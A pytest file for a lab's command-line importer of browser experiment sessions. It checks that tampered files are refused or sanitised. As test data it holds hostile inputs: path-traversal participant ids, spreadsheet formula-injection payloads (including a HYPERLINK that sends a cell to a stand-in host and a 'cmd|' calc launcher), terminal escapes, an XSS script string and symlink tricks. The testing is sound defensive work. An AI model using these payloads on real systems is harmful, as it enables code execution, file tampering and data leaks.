"""Browser session files are untrusted: a corpus of hostile files, each refused in one line with nothing
written, through the command a lab runs (``appeal import web``).

The base file is what an exported Exp. 2 study's browser writes for list 02 (tests/web_session_files.py);
each case edits it as a participant could before sending it. After every case the data folder is empty and
nothing beside it has changed.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest

from appeal_cli import main
from cli_errors import one_line_error
from experiments.session import default_seed
from web_session_files import browser_rows, web_protocol, write_rows


@pytest.fixture(scope="module")
def study(tmp_path_factory):
    """The protocol, and list 02's rows as the browser writes them."""
    root = tmp_path_factory.mktemp("hostile")
    proto = web_protocol(root, "exp2_stylisation")
    return proto, browser_rows(proto, root, "02")


def _tree(folder: Path) -> dict[str, bytes | str]:
    """Every path under ``folder`` with its content (files) or link target (symbolic links)."""
    out: dict[str, bytes | str] = {}
    for p in sorted(folder.rglob("*")):
        key = str(p.relative_to(folder))
        out[key] = f"-> {os.readlink(p)}" if p.is_symlink() else (p.read_bytes() if p.is_file() else "dir")
    return out


def _import(capsys, files: list[Path], proto: Path, out: Path, *needles: str, extra: tuple[str, ...] = ()) -> str:
    """``appeal import web FILES``: refused in one line holding ``needles``; nothing written anywhere."""
    world = out.parent
    before = _tree(world)
    line = one_line_error(capsys, ["import", "web", *map(str, files), "--protocol", str(proto), "--out", str(out),
                                   *extra], *needles)
    assert _tree(world) == before, "a refused import changed files"
    return line


def _text(rows: pd.DataFrame) -> str:
    return "\t".join(rows.columns) + "\n" + "".join("\t".join(map(str, r)) + "\n" for r in rows.itertuples(index=False))


def _edit(rows: pd.DataFrame, row: int, **cells: str) -> pd.DataFrame:
    rows = rows.copy()
    for c, v in cells.items():
        rows.loc[row, c] = v
    return rows


def _everywhere(rows: pd.DataFrame, **cells: str) -> pd.DataFrame:
    rows = rows.copy()
    for c, v in cells.items():
        rows[c] = v
    return rows


def test_the_crafted_participant_id_of_the_issue_is_refused_and_nothing_escapes(study, tmp_path, capsys):
    """participant_id = x/../../../escaped with a valid list and seed: refused naming the file and the column."""
    proto, rows = study
    f = write_rows(_everywhere(rows, participant_id="x/../../../escaped"), tmp_path / "up", "sub-x_beh.tsv")
    out = tmp_path / "data" / "study"
    line = _import(capsys, [f], proto, out, str(f), "column 'participant_id'", "BIDS label")
    assert "x/../../../escaped" in line
    assert not out.exists() and not (tmp_path / "escaped").exists() and not Path("/escaped").exists()


# (name, edit of the rows or of the bytes, the words the one-line refusal must hold)
ROW_CASES: list[tuple[str, Callable[[pd.DataFrame], pd.DataFrame], tuple[str, ...]]] = [
    ("absolute participant", lambda r: _everywhere(r, participant_id="/tmp/evil"), (":2: column 'participant_id'",)),
    ("dot-dot participant", lambda r: _everywhere(r, participant_id=".."), ("column 'participant_id'",)),
    ("too long participant", lambda r: _everywhere(r, participant_id="A" * 65), ("column 'participant_id'", "64")),
    ("traversal in the list", lambda r: _everywhere(r, list="../02"), ("column 'list'", "BIDS label")),
    ("traversal in the session", lambda r: _everywhere(r, session="1/../.."), ("column 'session'", "whole number")),
    ("session 0", lambda r: _everywhere(r, session="0"), ("column 'session'", "from 1 to 9999")),
    ("two participants", lambda r: _edit(r, 5, participant_id="03"), (":7: column 'participant_id'", "every row")),
    ("duplicated trial", lambda r: pd.concat([r.iloc[:5], r.iloc[4:5], r.iloc[5:-1]]).reset_index(drop=True),
     (":7: column 'trial'", "expected 6")),
    ("reordered trials", lambda r: r.iloc[[0, 1, 2, 4, 3, *range(5, len(r))]].reset_index(drop=True),
     (":5: column 'trial'", "expected 4")),
    ("reordered stimuli", lambda r: _swap(r, 3, 4, "stimulus"), (":5: column 'stimulus'", "not the exported trial")),
    ("stimulus not in the export", lambda r: _edit(r, 3, stimulus="../../etc/passwd"),
     (":5: column 'stimulus'", "not the exported trial")),
    ("factor level changed", lambda r: _edit(r, 3, shape="2"), (":5: column 'shape'",)),
    ("more rows than trials", lambda r: _renumber(pd.concat([r, r])), ("more rows than the 14 trials",)),
    ("another protocol's seed", lambda r: _everywhere(r, seed=str(default_seed("exp3_expressions", "02", 1))),
     (":2: column 'seed'", "not the seed of list 02")),
    ("another protocol's hash", lambda r: _everywhere(r, protocol_sha256="0" * 64),
     (":2: column 'protocol_sha256'", "changed since the export")),
    ("a hash that is no hash", lambda r: _everywhere(r, protocol_sha256="=cmd|' /C calc'!A0"),
     (":2: column 'protocol_sha256'", "sha256")),
    ("list_trials", lambda r: _everywhere(r, list_trials="99"), (":2: column 'list_trials'", "14 trials")),
    ("part goes back", lambda r: _edit(_everywhere(r, part="2"), 6, part="1"), (":8: column 'part'",)),
    ("Likert 8 on a 7-point scale", lambda r: _edit(r, 4, response_realism="8"), (":6: column 'response_realism'", "1, 2")),
    ("Likert as a formula", lambda r: _edit(r, 4, response_realism="=1+1"), (":6: column 'response_realism'",)),
    ("negative rt", lambda r: _edit(r, 4, rt_realism="-1"), (":6: column 'rt_realism'", "from 0 to")),
    ("nan rt", lambda r: _edit(r, 4, rt_realism="nan"), (":6: column 'rt_realism'", "a number")),
    ("infinite rt", lambda r: _edit(r, 4, rt_realism="1e999"), (":6: column 'rt_realism'",)),
    ("a number with spaces", lambda r: _edit(r, 4, onset_s=" 1.5"), (":6: column 'onset_s'",)),
    ("refresh rate 0", lambda r: _everywhere(r, refresh_hz="0"), (":2: column 'refresh_hz'",)),
    ("trigger in a browser", lambda r: _edit(r, 2, trigger="255"), (":4: column 'trigger'", "n/a")),
    ("started is no time", lambda r: _everywhere(r, started="yesterday"), (":2: column 'started'", "ISO 8601")),
    ("started on the 31st of February", lambda r: _everywhere(r, started="2026-02-31T10:00:00Z"),
     (":2: column 'started'",)),
    ("an oversized user agent", lambda r: _edit(r, 2, browser="A" * 5000), (":4: column 'browser'", "at most 1024")),
    ("an escape in the user agent", lambda r: _edit(r, 2, browser="Mozilla \x1b[2J"),
     (":4: column 'browser'", "control character")),
    ("a carriage return in a cell", lambda r: _edit(r, 2, study_id="a\rb"), (":4: column 'study_id'", "control")),
    ("a bidi override", lambda r: _edit(r, 2, recruitment_pid="abc\u202edcb"), (":4: column 'recruitment_pid'",)),
]


def _swap(rows: pd.DataFrame, i: int, j: int, col: str) -> pd.DataFrame:
    rows = rows.copy()
    rows.loc[i, col], rows.loc[j, col] = rows.loc[j, col], rows.loc[i, col]
    return rows


def _renumber(rows: pd.DataFrame) -> pd.DataFrame:
    rows = rows.reset_index(drop=True)
    rows["trial"] = [str(k) for k in range(1, len(rows) + 1)]
    return rows


@pytest.mark.parametrize("name,edit,needles", ROW_CASES, ids=[c[0] for c in ROW_CASES])
def test_hostile_rows_are_refused_in_one_line(study, tmp_path, capsys, name, edit, needles):
    proto, rows = study
    f = write_rows(edit(rows), tmp_path / "up", "sub-02_ses-1_task-exp2_beh.tsv")
    _import(capsys, [f], proto, tmp_path / "data", str(f), *needles)
    assert not (tmp_path / "data").exists()


def _ragged(text: str, line: int) -> str:
    lines = text.split("\n")
    lines[line - 1] = lines[line - 1].rsplit("\t", 1)[0]
    return "\n".join(lines)


def _utf16(text: str) -> bytes:
    return text.encode("utf-16")


BYTE_CASES: list[tuple[str, Callable[[str], bytes], tuple[str, ...]]] = [
    ("cut mid-line", lambda t: t.encode()[:len(t.encode()) - 40], ("no line end", "cut off")),
    ("latin-1", lambda t: t.replace("Mozilla", "Mozillé", 1).encode("latin-1"), (":2: not UTF-8", "0xe9")),
    ("UTF-16", _utf16, ("NUL byte",)),
    ("a byte-order mark", lambda t: b"\xef\xbb\xbf" + t.encode(), (":1: a byte-order mark",)),
    ("a NUL in a cell", lambda t: t.replace("Mozilla", "Moz\0illa", 1).encode(), (":2: a NUL byte",)),
    ("empty", lambda t: b"", ("empty file",)),
    ("a header only", lambda t: t.split("\n")[0].encode() + b"\n", ("no trials",)),
    ("oversized", lambda t: t.encode() + b"x" * 2_000_000, ("bytes, more than a session of exp2_stylisation",)),
    ("ragged row", lambda t: _ragged(t, 3).encode(), (":3: expected 45 tab-separated cells, found 44",)),
    ("another protocol's header", lambda t: t.replace("response_realism", "response_intensity", 1).encode(),
     (":1: column", "expected 'response_realism'")),
    ("an extra column", lambda t: t.replace("\n", "\textra\n").encode(), (":1: header",)),
    ("random bytes", lambda t: os.urandom(3000), ()),
]


@pytest.mark.parametrize("name,make,needles", BYTE_CASES, ids=[c[0] for c in BYTE_CASES])
def test_hostile_bytes_are_refused_in_one_line(study, tmp_path, capsys, name, make, needles):
    proto, rows = study
    f = tmp_path / "up" / "sub-02_ses-1_task-exp2_beh.tsv"
    f.parent.mkdir()
    f.write_bytes(make(_text(rows)))
    before = f.read_bytes()
    _import(capsys, [f], proto, tmp_path / "data", str(f), *needles)
    assert f.read_bytes() == before  # the participant's file is only read (a cut-off line is not cut here)


def test_what_is_not_a_regular_file_is_refused_without_reading_it(study, tmp_path, capsys):
    proto, _ = study
    up = tmp_path / "up"
    (up / "dir.tsv").mkdir(parents=True)
    os.mkfifo(up / "fifo.tsv")  # reading it would block forever
    os.symlink("/dev/zero", up / "zero.tsv")  # ... or never end
    for name in ("dir.tsv", "fifo.tsv", "zero.tsv"):
        _import(capsys, [up / name], proto, tmp_path / "data", name, "not a regular file")
    _import(capsys, [up / "absent.tsv"], proto, tmp_path / "data", "absent.tsv", "no such file")


def test_output_paths_through_symbolic_links_are_refused(study, tmp_path, capsys):
    """A link planted in the data folder (a participant's folder, its beh folder, the session file,
    the report) leads out of --out: refused before anything is written or removed, --force or not."""
    proto, rows = study
    f = write_rows(rows, tmp_path / "up")
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "ses-1" / "beh" / "report").mkdir(parents=True)
    (elsewhere / "ses-1" / "beh" / "report" / "keep.txt").write_text("not the lab's to remove")
    (elsewhere / "victim.tsv").write_text("precious")
    data = tmp_path / "data"
    data.mkdir()
    os.symlink(elsewhere, data / "sub-02")
    _import(capsys, [f], proto, data, "outside the output folder", extra=("--force",))
    os.unlink(data / "sub-02")
    beh = data / "sub-02" / "ses-1" / "beh"
    beh.mkdir(parents=True)
    os.symlink(elsewhere / "ses-1" / "beh" / "report", beh / "report")
    _import(capsys, [f], proto, data, "report", "outside the output folder", extra=("--force",))
    os.unlink(beh / "report")
    os.symlink(elsewhere / "victim.tsv", beh / "sub-02_ses-1_task-exp2_beh.tsv")
    _import(capsys, [f], proto, data, "outside the output folder", extra=("--force",))
    assert (elsewhere / "victim.tsv").read_text() == "precious"
    assert (elsewhere / "ses-1" / "beh" / "report" / "keep.txt").is_file()


def test_one_bad_file_and_nothing_is_written(study, tmp_path, capsys):
    """All or nothing: a good file and a bad one, and the good one is not imported either; an earlier
    import in the folder is left as it was; duplicated participants are refused the same way."""
    proto, rows = study
    data = tmp_path / "data"
    first = write_rows(_everywhere(rows, participant_id="07"), tmp_path / "earlier")
    assert main(["import", "web", str(first), "--protocol", str(proto), "--out", str(data)]) == 0
    capsys.readouterr()
    good = write_rows(rows, tmp_path / "up")
    bad = write_rows(_edit(_everywhere(rows, participant_id="09"), 3, rt_realism="-2"), tmp_path / "up")
    _import(capsys, [good, bad], proto, data, str(bad), "column 'rt_realism'")
    assert sorted(p.name for p in data.iterdir()) == ["sub-07"]
    twin = write_rows(rows, tmp_path / "twin")
    _import(capsys, [good, twin], proto, data, "two files of participant 02, session 1")
    _import(capsys, [first], proto, data, "already imported")


def test_formula_cells_are_neutralised_in_what_is_written(study, tmp_path, capsys):
    """Free text a spreadsheet would run as a formula (URL parameters, the user agent) is imported,
    written with a leading apostrophe; the participant's file keeps its bytes."""
    proto, rows = study
    evil = _everywhere(rows, recruitment_pid="=HYPERLINK(\"http://x.test/?\"&A1,\"click\")",
                       study_id="@SUM(1+1)*cmd|' /C calc'!A0", session_id="-2+3", browser="+cmd")
    f = write_rows(evil, tmp_path / "up")
    data = tmp_path / "data"
    assert main(["import", "web", str(f), "--protocol", str(proto), "--out", str(data)]) == 0, capsys.readouterr().err
    beh = data / "sub-02" / "ses-1" / "beh" / "sub-02_ses-1_task-exp2_beh.tsv"
    back = pd.read_csv(beh, sep="\t", dtype=str, keep_default_na=False)
    assert set(back["recruitment_pid"]) == {"'=HYPERLINK(\"http://x.test/?\"&A1,\"click\")"}
    assert set(back["study_id"]) == {"'@SUM(1+1)*cmd|' /C calc'!A0"} and set(back["browser"]) == {"'+cmd"}
    assert set(back["session_id"]) == {"'-2+3"}
    assert back.drop(columns=["recruitment_pid", "study_id", "session_id", "browser"]).equals(
        rows.drop(columns=["recruitment_pid", "study_id", "session_id", "browser"]))
    side = json.loads(beh.with_suffix(".json").read_text())
    assert side["SourceSHA256"] and side["Status"] == "complete"
    for csv in (beh.parent / "report").glob("*.csv"):
        assert not any(cell.startswith(("=", "@")) for cell in csv.read_text().replace("\n", ",").split(","))


def test_what_a_browser_honestly_sends_is_imported(study, tmp_path, capsys):
    """Not hostile: a session cut at a row boundary (the participant left) is an incomplete session,
    Windows line ends are read, and --force replaces an earlier import (its report included)."""
    proto, rows = study
    part = write_rows(rows.iloc[:9], tmp_path / "up")
    data = tmp_path / "data"
    assert main(["import", "web", str(part), "--protocol", str(proto), "--out", str(data)]) == 0
    assert "9 trials (incomplete)" in capsys.readouterr().out
    whole = tmp_path / "crlf" / "sub-02_ses-1_task-exp2_beh.tsv"
    whole.parent.mkdir()
    whole.write_bytes(_text(rows).replace("\n", "\r\n").encode())
    assert main(["import", "web", str(whole), "--protocol", str(proto), "--out", str(data), "--force"]) == 0
    assert "14 trials (complete)" in capsys.readouterr().out
    beh = data / "sub-02" / "ses-1" / "beh"
    assert (beh / "report" / "index.html").is_file()
    assert not [p for p in data.rglob(".appeal-import-*")]  # the staging folder is gone
    assert b"\r" not in (beh / "sub-02_ses-1_task-exp2_beh.tsv").read_bytes()


@pytest.mark.slow
def test_a_hostile_link_in_a_real_browser_gives_a_file_that_imports_safely(tmp_path, capsys):
    """The participant's real path: a crafted study link (traversal in the id, a formula, a terminal escape
    and markup in the URL parameters) opened in Chromium, the session answered by keys, the file downloaded:
    the browser writes a label and clean text, the importer accepts it and neutralises the formula."""
    from urllib.parse import quote

    from experiments.web import export_web
    from web_participant import StudyServer, answer_until, browser, state, wait_for_file

    proto = web_protocol(tmp_path, "exp2_stylisation")
    site = export_web(proto, tmp_path / "site", participants=2, fullscreen=False).out
    query = ("participant=" + quote("x/../../../escaped") + "&STUDY_ID=" + quote("=HYPERLINK(\"http://x.test\")")
             + "&SESSION_ID=" + quote("\x1b[2J<script>alert(1)</script>\r\n"))
    dl = tmp_path / "dl"
    with StudyServer(site) as server, browser(dl) as driver:
        driver.get(server.url + "index.html?" + query)
        answer_until(driver, lambda d: state(d) == "complete")
        f = wait_for_file(dl, "sub-*_beh.tsv")
    assert f.name == "sub-xescaped_ses-1_task-exp2_beh.tsv"
    raw = pd.read_csv(f, sep="\t", dtype=str, keep_default_na=False)
    assert set(raw["participant_id"]) == {"xescaped"} and set(raw["session_id"]) == {" [2J<script>alert(1)</script>  "}
    data = tmp_path / "data"
    assert main(["import", "web", str(f), "--protocol", str(proto), "--out", str(data)]) == 0, capsys.readouterr().err
    beh = data / "sub-xescaped" / "ses-1" / "beh" / "sub-xescaped_ses-1_task-exp2_beh.tsv"
    back = pd.read_csv(beh, sep="\t", dtype=str, keep_default_na=False)
    assert set(back["study_id"]) == {"'=HYPERLINK(\"http://x.test\")"}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "dl", "exp2_stylisation.yaml", "faces", "site"]
